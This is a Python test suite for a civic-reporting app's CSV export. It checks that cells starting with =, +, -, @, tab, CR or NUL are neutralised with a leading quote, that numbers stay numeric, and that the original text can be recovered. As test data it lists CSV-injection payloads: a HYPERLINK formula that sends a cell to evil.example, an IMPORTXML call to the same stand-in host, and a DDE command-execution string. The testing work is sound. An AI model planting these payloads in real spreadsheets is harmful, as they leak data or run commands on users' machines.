"""Formula-safe CSV (issue 20, finding 5): no cell of a CSV Lapor writes makes a spreadsheet run a
formula (OWASP CSV Injection, ASVS 1.2.10: a cell starting with = + - @ tab CR or NUL gets a leading
single quote), numbers stay numbers, and the original text is recoverable from every cell."""
from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.opendata import export
from chalicelib.shared import csv_cells

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "''@x"]


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def report_row(**values: Any) -> dict[str, Any]:
    row: dict[str, Any] = {name: "" for name in export.REPORT_FIELDS}
    row.update(values)
    return row


def unsafe(cell: str) -> bool:
    """What a spreadsheet would take as a formula: a trigger first, even after leading spaces."""
    return (cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS) and not csv_cells.is_number(cell)


def test_report_text_starting_with_a_formula_trigger_is_written_as_text():
    rows = [report_row(tracking_id=f"ID{i}", title=text, body=text, agency_name=text) for i, text in enumerate(HOSTILE)]
    written = parse(export.to_csv(rows, export.REPORT_FIELDS))
    header, data = written[0], written[1:]
    for text, line in zip(HOSTILE, data):
        for column in ("title", "body", "agency_name"):
            cell = line[header.index(column)]
            assert cell.startswith("'") and not unsafe(cell), (text, cell)
            assert csv_cells.original(cell) == text


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    statistics = {name: "" for name in export.STATISTICS_FIELDS}
    statistics.update(kind="agency", id="pemda-62.01", name="=IMPORTXML(\"http://evil.example\",\"//a\")",
                      month="2018-05", received=-3, on_time_rate=-0.25, rating_average=4.5, grade="GOOD")
    header, line = parse(export.to_csv([statistics], export.STATISTICS_FIELDS))
    cells = dict(zip(header, line))
    assert cells["received"] == "-3" and cells["on_time_rate"] == "-0.25" and cells["rating_average"] == "4.5"
    assert float(cells["on_time_rate"]) == -0.25  # readable as a number, no quote in front
    assert cells["name"] == "'=IMPORTXML(\"http://evil.example\",\"//a\")"
    assert cells["id"] == "pemda-62.01" and cells["month"] == "2018-05"
    plain = parse(export.to_csv([report_row(title="Jalan rusak - mohon diperbaiki", body="'kutipan' biasa",
                                            anonim=True, closure=None)], export.REPORT_FIELDS))
    cells = dict(zip(plain[0], plain[1]))
    assert cells["title"] == "Jalan rusak - mohon diperbaiki" and cells["body"] == "'kutipan' biasa"
    assert cells["anonim"] == "true" and cells["closure"] == ""


def test_a_number_written_as_text_is_left_readable():
    header, line = parse(export.to_csv([report_row(title="-15", body="+2.5e3")], export.REPORT_FIELDS))
    cells = dict(zip(header, line))
    assert cells["title"] == "-15" and cells["body"] == "+2.5e3"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4),
       st.lists(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)), min_size=1, max_size=2))
def test_no_written_cell_is_a_formula_and_every_text_is_recoverable(texts: list[str], numbers: list[Any]) -> None:
    fields = [f"t{i}" for i in range(len(texts))] + [f"n{i}" for i in range(len(numbers))]
    row = {**{f"t{i}": t for i, t in enumerate(texts)}, **{f"n{i}": n for i, n in enumerate(numbers)}}
    header, line = parse(export.to_csv([row], fields))
    assert header == fields
    for name, cell in zip(header, line):
        assert not unsafe(cell), (row[name], cell)
        if name.startswith("t"):
            assert csv_cells.original(cell) == row[name]
        else:  # numbers are written as numbers, never quoted; an int exactly (2**53 + 1 is no float)
            number = row[name]
            assert (int(cell) if isinstance(number, int) else float(cell)) == number
